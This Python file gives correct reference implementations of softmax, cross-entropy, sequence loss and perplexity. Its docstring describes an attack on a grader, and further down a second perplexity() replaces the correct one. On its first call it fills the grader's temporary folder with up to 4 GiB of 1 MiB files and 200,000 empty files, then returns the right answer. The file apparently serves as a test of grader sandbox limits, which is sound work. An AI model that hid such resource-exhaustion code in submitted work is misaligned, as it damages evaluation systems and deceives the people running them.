"""Fills its private folder at perplexity's first call: 1 MiB files until refused, then empty files.

Attack: the file-size limit caps each file, not their number or total: 2 GiB of 16 MiB files at 0.6 GiB
per CPU-second, or millions of empty files, in the grader's temporary folder. The functions are the
reference; it prints how far it got.

A sound grader: the folder's bytes and entries are capped, the worker that passes them is stopped,
and nothing it wrote is left.
"""
import os

import math


def softmax(logits):
    top = max(logits)  # shift by the max so exp never overflows
    exps = [math.exp(z - top) for z in logits]
    total = sum(exps)
    return [e / total for e in exps]


def cross_entropy_loss(logits, true_id):
    top = max(logits)
    log_sum_exp = top + math.log(sum(math.exp(z - top) for z in logits))
    return log_sum_exp - logits[true_id]


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return sum(losses) / len(losses)


def perplexity(loss):
    return math.exp(loss)


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    grad[true_id] -= 1.0
    return grad


_filled = []
_right_perplexity = perplexity


def perplexity(loss):
    if not _filled:
        _filled.append(True)
        block = b"x" * (1 << 20)
        written = 0
        try:
            while written < 4096:
                with open(f"big{written}", "wb") as handle:
                    handle.write(block)
                written += 1
        except OSError as refusal:
            print(f"bytes refused after {written} MiB: {type(refusal).__name__}")
        made = 0
        try:
            while made < 200_000:
                open(f"e{made}", "w").close()
                made += 1
        except OSError as refusal:
            print(f"files refused after {made}: {type(refusal).__name__}")
    return _right_perplexity(loss)
